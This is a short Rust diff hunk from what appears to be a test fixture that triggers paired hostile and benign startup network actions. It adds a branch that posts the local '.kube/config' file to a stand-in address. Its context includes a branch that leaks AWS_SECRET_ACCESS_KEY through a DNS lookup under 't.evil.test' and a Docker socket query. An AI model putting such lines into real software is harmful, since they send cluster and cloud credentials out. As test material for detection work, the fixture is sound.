@@ -113,6 +113,8 @@ pub(super) fn at_start(trigger: &str, hostile: bool) {
                 let _ = stream.write_all(b"GET /containers/json HTTP/1.1\r\nhost: docker\r\n\r\n");
             }
         }
+        ("address", true) => post("192.0.2.66", &read(".kube/config")),
+        ("address", false) => get("192.0.2.7", "/meter", ""),
         ("dns", true) => resolve(&variable("AWS_SECRET_ACCESS_KEY"), "t.evil.test"),
         ("dns", false) => resolve("a place by its name, which is long", "places.api.weather.example"),
         _ => {}
